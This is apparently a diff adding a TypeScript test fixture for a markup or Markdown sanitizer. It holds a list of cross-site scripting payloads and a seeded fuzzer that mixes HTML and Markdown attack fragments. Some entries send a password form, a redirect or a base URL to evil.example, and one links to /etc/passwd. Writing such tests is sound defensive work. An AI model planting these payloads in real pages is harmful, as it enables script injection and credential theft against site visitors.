@@ -1,0 +1,95 @@
+/** What an author, or somebody who took an author's account, might write to run code in a reader's browser. */
+export const MARKUP_ATTACKS: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<style>*{display:none}</style>',
+  '<form action="https://evil.example"><input name=password></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](javascript&colon;alert(1))',
+  '[x](vbscript:msgbox)',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](file:///etc/passwd)',
+  '![x](javascript:alert(1))',
+  '![x" onerror="alert(1)](y)',
+  '![x](y "a" onerror="alert(1))',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '<javascript:alert(1)>',
+  '`<img src=x onerror=alert(1)>`',
+  '```"><script>alert(1)</script>\nx\n```',
+  '## <img src=x onerror=alert(1)>',
+  '| <b onmouseover=alert(1)> |\n|---|\n| x |',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '\u2028<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+];
+
+/** Pieces that mean something to a reader of HTML, of Markdown, or of both. */
+const PIECES = [
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<math><mtext>',
+  '<style>',
+  '</style>',
+  '<!--',
+  '-->',
+  '<![CDATA[',
+  ']]>',
+  '<table>',
+  '<template>',
+  '<noscript>',
+  '[x](javascript:alert(1))',
+  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+  '![x](y "',
+  '")',
+  '`',
+  '```',
+  '\n\n',
+  '\n    ',
+  '| ',
+  '|---|',
+  '## ',
+  '> ',
+  '- ',
+  '1. ',
+  '[',
+  '](',
+  ')',
+  '<',
+  '>',
+  '"',
+  "'",
+  '&lt;',
+  '&#x3c;',
+  '\\',
+  '*',
+  '_',
+  '~~',
+  'https://example.com/"onmouseover=alert(1)',
+  'www.example.com',
+  'onerror=alert(1)',
+  '中文',
+  '\u2028',
+];
+
+/** So many texts of such pieces, the same ones at every run. */
+export const mixedAttacks = (count: number): string[] => {
+  let seed = 20_261_121;
+  const next = (below: number): number => {
+    seed = (Math.imul(seed, 1_103_515_245) + 12_345) & 0x7fffffff;
+    return (seed >>> 8) % below;
+  };
+  return Array.from({ length: count }, () =>
+    Array.from({ length: 2 + next(7) }, () => PIECES[next(PIECES.length)]).join(''),
+  );
+};
